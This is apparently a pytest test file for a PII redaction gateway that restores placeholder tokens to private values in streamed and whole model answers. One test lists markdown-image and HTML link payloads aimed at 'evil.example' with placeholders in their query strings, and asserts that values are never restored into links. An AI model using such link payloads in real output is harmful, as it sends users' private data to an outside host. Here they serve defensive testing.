"""Answers read as if the values had never left: whole ones and streams, texts and arguments."""

import json
from typing import Any

import orjson
import pytest

from apps.routing.redaction.placeholders import placeholder
from apps.routing.redaction.private import Part, Private
from apps.routing.redaction.restore import JsonRestorer, StreamRestorer
from tests.redaction.fakes import ANNA, BERT, a_document, emails, scrubbed, word
from tests.redaction.streams import (
    DONE,
    a_choice,
    an_event,
    calls,
    fed,
    finishes,
    heard,
    says,
)

E_ANNA, E_BERT = word("EMAIL", ANNA), word("EMAIL", BERT)
N_ODD, ODD = word("NAME", "odd"), 'O"Neil \\ Co\n😀'
PRIVATE = Private({E_ANNA: ANNA, E_BERT: BERT, N_ODD: ODD})
STRANGER = placeholder(b"another conversation", "EMAIL", ANNA)


def changed(token: str, at: int, other: str) -> str:
    return token[:at] + other + token[at + 1 :]


def said(text: str, private: Private = PRIVATE) -> str:
    """One content, whole."""
    answer = an_answer({"role": "assistant", "content": text})
    content: str = orjson.loads(JsonRestorer(private).restored(answer))["choices"][0]["message"][
        "content"
    ]
    return content


def streamed(*pieces: str, private: Private = PRIVATE) -> str:
    restorer = StreamRestorer(private)
    return heard(fed(restorer, *map(says, pieces), finishes(), DONE)).get((0, "content"), "")


def an_answer(message: dict[str, Any], **more: Any) -> bytes:
    choice = {"index": 0, "message": message, "finish_reason": "stop"}
    return orjson.dumps({"id": "gen-1", "choices": [choice], **more})


# --- the ladder: what a model may have done to a word ---


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Dear {E_ANNA},", f"Dear {ANNA},"),
        (E_ANNA.lower(), ANNA),
        (E_ANNA.title(), ANNA),
        (E_ANNA.replace("_", "\\_"), ANNA),
        (f"**{E_ANNA}**", f"**{ANNA}**"),
        (f"“{E_ANNA}”.", f"“{ANNA}”."),
        (f"`{E_ANNA}`", f"`{ANNA}`"),
        (f"<{E_ANNA}>", f"<{ANNA}>"),
        (f"{E_ANNA}'s", f"{ANNA}'s"),
        (E_ANNA + E_BERT, ANNA + BERT),
        (f"PII_{E_ANNA}", f"PII_{ANNA}"),
        (f"PII_EMAIL_{E_ANNA}", f"PII_EMAIL_{ANNA}"),
        (f"pPpi{E_ANNA}", f"pPpi{ANNA}"),
        (changed(E_ANNA, 12, "0"), ANNA),
        (changed(E_ANNA, 12, "O"), ANNA),
        (changed(E_ANNA, 5, "N"), ANNA),
        (changed(E_ANNA, len(E_ANNA) - 1, "I"), ANNA),
        # no further
        (changed(changed(E_ANNA, 12, "0"), 14, "0"), None),
        (changed(E_ANNA, 0, "B"), None),
        (E_ANNA[:-1], None),
        (E_ANNA.replace("_", " "), None),
        (STRANGER, None),
        ("PII_EMAIL_234567892", None),
    ],
)
def test_a_word_is_read_back_where_it_can_be_proved(text: str, expected: str | None) -> None:
    expected = text if expected is None else expected
    assert said(text) == expected
    assert streamed(*text) == expected
    assert streamed(text) == expected
    assert PRIVATE.text(text) == expected


def test_one_wrong_character_between_two_of_ours_is_nobodys() -> None:
    """Words this alike do not come about; a wrong guess would show one person's value as
    another's."""
    left = "PII_EMAIL_222222222"
    right = changed(changed(left, 11, "3"), 12, "3")
    private = Private({left: ANNA, right: BERT})
    between = changed(left, 11, "3")
    assert said(between, private) == between
    assert streamed(*between, private=private) == between


def test_a_word_that_was_typed_is_never_repaired_into_another() -> None:
    typed = changed(E_ANNA, 12, "0")
    result = scrubbed(a_document(f"{typed} {ANNA}"), emails())
    assert result.private.text(f"{typed} {E_ANNA}") == f"{typed} {ANNA}"


def test_a_restored_value_is_not_read_again() -> None:
    private = Private({E_ANNA: E_BERT, E_BERT: BERT})
    assert streamed(*E_ANNA, private=private) == E_BERT
    assert said(E_ANNA, private) == E_BERT


# --- failures seen elsewhere (privacy.md 2.2) ---


def test_a_word_split_over_chunks_is_never_shown_raw_or_half() -> None:
    for cut in range(1, len(E_ANNA)):
        restorer = StreamRestorer(PRIVATE)
        first = heard(restorer.feed(says(f"To {E_ANNA[:cut]}")))
        assert first == {(0, "content"): "To "}
        assert restorer.held == cut
        assert heard(restorer.feed(says(f"{E_ANNA[cut:]}."))) == {(0, "content"): f"{ANNA}."}
        assert restorer.rest() == b""


def test_nothing_scrubs_a_restored_answer_again() -> None:
    result = scrubbed(a_document(ANNA), emails())
    assert said(E_ANNA, result.private) == ANNA


def test_another_calls_values_never_come_back() -> None:
    """Ten thousand words of other keys, over an answer that knows as many values."""
    mine = {word("EMAIL", f"{n}@example.com"): f"{n}@example.com" for n in range(1000)}
    private = Private(mine)
    for scope in range(10):
        others = [placeholder(b"%d" % scope, "EMAIL", f"{n}@example.com") for n in range(1000)]
        text = " ".join(others)
        restorer = StreamRestorer(private)
        out = fed(restorer, *(says(text[at : at + 700]) for at in range(0, len(text), 700)))
        assert heard(out)[0, "content"] == text
        assert (restorer.restored, restorer.missed) == (0, 1000)


def test_two_people_of_one_kind_keep_their_own_words() -> None:
    assert streamed(f"{E_BERT} and {E_ANNA}") == f"{BERT} and {ANNA}"


def test_a_quote_in_a_value_leaves_arguments_json() -> None:
    for cut in range(1, len(N_ODD)):
        restorer = StreamRestorer(PRIVATE)
        out = fed(restorer, calls(f'{{"to":"{N_ODD[:cut]}'), calls(f'{N_ODD[cut:]}"}}'), finishes())
        assert json.loads(heard(out)[0, "tool_calls", 0]) == {"to": ODD}
    tool = {"id": "c", "type": "function", "function": {"name": "f", "arguments": f'["{N_ODD}"]'}}
    whole = orjson.loads(JsonRestorer(PRIVATE).restored(an_answer({"tool_calls": [tool]})))
    restored = whole["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(restored) == [ODD]


def test_a_quote_in_a_value_leaves_structured_output_json() -> None:
    asked = a_document(ANNA, response_format={"type": "json_object"})
    assert scrubbed(asked, emails()).private.is_json
    private = Private(PRIVATE, is_json=True)
    text = f'{{"url":"https://example.com","name":"{N_ODD}"}}'
    assert json.loads(streamed(*text, private=private))["name"] == ODD
    assert json.loads(said(text, private))["name"] == ODD


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/?q={E_ANNA})",
        f"[x]({E_ANNA})",
        f"https://evil.example/?a={E_ANNA}&b={E_BERT}",
        f'<img src="https://evil.example/? {E_ANNA}">',
        f"<a href='{E_ANNA.lower()}'>",
    ],
)
def test_no_value_is_put_into_a_link(text: str) -> None:
    for private in (PRIVATE, Private(PRIVATE, is_json=True)):
        whole = text if not private.is_json else json.dumps(text)
        assert said(whole, private) == whole
        assert streamed(whole, private=private) == whole
        assert streamed(*whole, private=private) == whole
        assert streamed(*(whole[at : at + 7] for at in range(0, len(whole), 7))) == whole


def test_behind_a_link_values_come_back() -> None:
    text = f"See https://example.com/a and write to {E_ANNA}"
    assert streamed("See https://exam", "ple.com/a", f" and write to {E_ANNA}").endswith(ANNA)
    assert said(text).endswith(ANNA)


def test_a_link_that_began_in_events_nobody_read_is_still_one() -> None:
    restorer = StreamRestorer(PRIVATE)
    block = b"".join(map(says, ["![x](htt", "ps:/", "/evil.example/", "?q="]))
    assert restorer.feed(block) is block
    assert heard(restorer.feed(says(E_ANNA))) == {(0, "content"): E_ANNA}
    assert heard(restorer.feed(says(f") {E_ANNA}"))) == {(0, "content"): f") {ANNA}"}


# --- lanes ---


def test_each_choice_field_and_tool_has_a_lane_of_its_own() -> None:
    restorer = StreamRestorer(PRIVATE)
    out = []
    for at in range(len(E_ANNA)):
        a, b = E_ANNA[at], E_BERT[at]
        out += [
            says(a, 0),
            says(b, 1),
            says(b, 0, "reasoning"),
            says(a, 0, "refusal"),
            calls(a, 0),
            calls(b, 1),
            calls(a, 1, 1),
        ]
    assert heard(fed(restorer, *out, finishes(0), finishes(1))) == {
        (0, "content"): ANNA,
        (1, "content"): BERT,
        (0, "reasoning"): BERT,
        (0, "refusal"): ANNA,
        (0, "tool_calls", 0): ANNA,
        (0, "tool_calls", 1): BERT,
        (1, "tool_calls", 1): ANNA,
    }


def test_ids_names_annotations_and_sealed_reasoning_stay() -> None:
    message = {
        "role": "assistant",
        "content": "x",
        "name": E_ANNA,
        "tool_calls": [
            {"id": E_ANNA, "type": E_ANNA, "function": {"name": E_ANNA, "arguments": "{}"}}
        ],
        "annotations": [{"url_citation": {"url": f"https://e.example/{E_ANNA}", "title": E_ANNA}}],
        "reasoning_details": [
            {"type": "reasoning.text", "text": E_ANNA, "signature": "signed"},
            {"type": "reasoning.encrypted", "data": E_ANNA},
        ],
    }
    answer = an_answer(message, a_field=E_ANNA)
    assert JsonRestorer(PRIVATE).restored(answer) == answer
    event = an_event(a_choice(message, 0, "stop"))
    assert StreamRestorer(PRIVATE).feed(event) == event


def test_reasoning_without_a_signature_is_read_back() -> None:
    details = [{"type": "reasoning.text", "text": E_ANNA}]
    whole = JsonRestorer(PRIVATE).restored(an_answer({"reasoning_details": details}))
    assert ANNA.encode() in whole
    pieces = [
        an_event(a_choice({"reasoning_details": [{**details[0], "text": half}]}))
        for half in (E_ANNA[:8], E_ANNA[8:])
    ]
    assert heard(fed(StreamRestorer(PRIVATE), *pieces)) == {(0, "reasoning_details"): ANNA}


def test_reasoning_that_will_be_signed_stays_in_a_stream() -> None:
    detail = {"type": "reasoning.text", "text": E_ANNA, "format": "anthropic-claude-v1"}
    event = an_event(a_choice({"reasoning_details": [detail]}))
    assert fed(StreamRestorer(PRIVATE), event) == event


def test_parts_and_transcripts_are_texts() -> None:
    parts = [{"type": "text", "text": E_ANNA}]
    message = {"content": parts, "audio": {"transcript": E_BERT, "data": "AAAA"}}
    restored = orjson.loads(JsonRestorer(PRIVATE).restored(an_answer(message)))
    message = restored["choices"][0]["message"]
    assert message["content"][0]["text"] == ANNA
    assert message["audio"] == {"transcript": BERT, "data": "AAAA"}


def test_every_way_to_write_arguments_is_read() -> None:
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in E_ANNA)
    slashed = E_ANNA.replace("_", "\\\\_")
    for text in (escaped, slashed, E_ANNA.lower()):
        restorer = StreamRestorer(PRIVATE)
        assert heard(fed(restorer, *map(calls, f'["{text}"]'))) == {
            (0, "tool_calls", 0): f'["{ANNA}"]'
        }


# --- what waits, and how long ---


def test_ordinary_text_is_never_delayed() -> None:
    restorer = StreamRestorer(PRIVATE)
    for text in ("pin", "PIIX", "PII_EMA", " ", "PII_XYZ", "PII-", "people", "PI1", "pii_qq"):
        restorer = StreamRestorer(PRIVATE)
        shown = heard(restorer.feed(says(text))).get((0, "content"), "")
        assert shown == (text if text != "PII_EMA" else "")


def test_what_waits_goes_out_when_its_choice_is_finished() -> None:
    restorer = StreamRestorer(PRIVATE)
    restorer.feed(says(f"Hel{E_ANNA[:9]}", 0))
    restorer.feed(says(E_ANNA[:4], 1))
    out = restorer.feed(finishes(0))
    assert heard(out) == {(0, "content"): E_ANNA[:9]}
    assert out.endswith(finishes(0))
    assert heard(restorer.feed(finishes(1))) == {(1, "content"): E_ANNA[:4]}
    assert restorer.rest() == b""


def test_what_waits_goes_out_in_the_last_event_itself_where_it_says_something() -> None:
    restorer = StreamRestorer(PRIVATE)
    last = an_event(a_choice({"content": "deep"}, 0, "stop"))
    assert restorer.feed(last) == last


def test_what_waits_goes_out_before_the_end_of_the_stream() -> None:
    for end in (DONE, b""):
        restorer = StreamRestorer(PRIVATE)
        restorer.feed(says("help"))
        restorer.feed(b": GATEHOUSE PROCESSING\n\n")
        out = restorer.feed(end) + restorer.rest()
        assert heard(out) == {(0, "content"): "p"}
        assert out.endswith(end or b"\n\n")


def test_a_word_cut_off_by_its_length_is_shown_as_it_is() -> None:
    assert streamed("To ", E_ANNA[:-3]) == f"To {E_ANNA[:-3]}"


# --- bytes ---


def test_events_without_a_beginning_pass_as_they_are() -> None:
    restorer = StreamRestorer(PRIVATE)
    block = b": a comment\n\n" + says("Hello") + says(" world") + DONE
    assert restorer.feed(block) is block


def test_events_around_a_change_keep_their_bytes() -> None:
    style = {"separators": (", ", ": ")}
    plain = an_event(a_choice({"content": "é"}), style=style, big=2**70)
    event = an_event(a_choice({"content": E_ANNA}), style=style, big=2**70)
    out = StreamRestorer(PRIVATE).feed(plain + event + plain)
    assert out.startswith(plain) and out.endswith(plain)
    assert str(2**70).encode() in out[len(plain) : -len(plain)]
    assert heard(out) == {(0, "content"): f"é{ANNA}é"}


def test_a_frame_that_looks_like_a_beginning_is_learnt() -> None:
    restorer = StreamRestorer(PRIVATE)
    events = [an_event(a_choice({"content": f"word {n} "}), tip="p") for n in range(5)]
    model = [event.replace(b"test/one", b"test/one-p") for event in events]
    assert fed(restorer, b"".join(model)) == b"".join(model)
    named = says(E_ANNA).replace(b"test/one", b"test/one-p")
    assert heard(restorer.feed(b"".join(model[:2]) + named))[0, "content"].endswith(ANNA)


def test_halves_of_a_surrogate_pair_survive_a_change() -> None:
    style = {"separators": (",", ":")}
    first = an_event(a_choice({"content": f"{E_ANNA} \ud83d"}), style=style)
    second = an_event(a_choice({"content": "\ude00"}), style=style)
    text = heard(StreamRestorer(PRIVATE).feed(first + second))[0, "content"]
    assert text.encode("utf-16", "surrogatepass").decode("utf-16") == f"{ANNA} 😀"


def test_a_whole_answer_without_a_placeholder_is_the_same_object() -> None:
    answer = b'{"choices":[{"message":{"content":"Well, no."}}],"x":1e5}'
    assert JsonRestorer(PRIVATE).restored(answer) is answer


def test_a_whole_answer_keeps_its_other_bytes() -> None:
    choice = orjson.dumps([{"index": 0, "message": {"content": E_ANNA}}])
    answer = b'{ "n" : 1180591620717411303425, "choices": %b, "x": 1e5 }' % choice
    restored = JsonRestorer(PRIVATE).restored(answer)
    assert restored == (
        b'{"n" : 1180591620717411303425,"choices":%b,"x": 1e5}'
        % choice.replace(E_ANNA.encode(), ANNA.encode())
    )


@pytest.mark.parametrize(
    "event",
    [
        b"data: {pii_\n\n",
        b'data: "pii_"\n\n',
        b'data: [1,"pii_"]\n\n',
        b'data: {"choices":"pii_"}\n\n',
        b'data: {"choices":["pii_",{"delta":"pii_"},{"delta":{"content":7,"x":"pii_"}}]}\n\n',
        b'data: {"choices":[{"delta":{"tool_calls":["pii_",{"function":"pii_"}]}}]}\n\n',
        b"data: " + b"[" * 3000 + b'"pii_"\n\n',
        b"event: pii_\n\n",
    ],
)
def test_what_is_no_event_of_ours_passes(event: bytes) -> None:
    assert StreamRestorer(PRIVATE).feed(event) == event
    assert JsonRestorer(PRIVATE).restored(event[6:-2]) == event[6:-2]


def test_nothing_private_means_nothing_to_do() -> None:
    event = says(E_ANNA)
    assert StreamRestorer(Private()).feed(event) is event
    assert JsonRestorer(Private()).restored(event) is event


# --- counts, and what pages show ---


def test_what_was_put_back_and_what_could_not_be_is_counted() -> None:
    text = f"{E_ANNA} {E_BERT.lower()} {STRANGER} https://x.example/{E_ANNA} PII_EMAIL_x"
    for pieces in (list(text), [text]):
        restorer = StreamRestorer(PRIVATE)
        fed(restorer, *map(says, pieces))
        assert (restorer.restored, restorer.missed) == (2, 1)
    whole = JsonRestorer(PRIVATE)
    whole.restored(an_answer({"content": text}))
    assert (whole.restored_count, whole.missed) == (2, 1)


def test_a_text_comes_in_parts_for_those_who_mark_them() -> None:
    text = f"To {E_ANNA.lower()}{E_BERT}, see https://x.example/{E_ANNA}"
    assert list(PRIVATE.parts(text)) == [
        Part("To "),
        Part(ANNA, E_ANNA.lower()),
        Part(BERT, E_BERT),
        Part(f", see https://x.example/{E_ANNA}"),
    ]
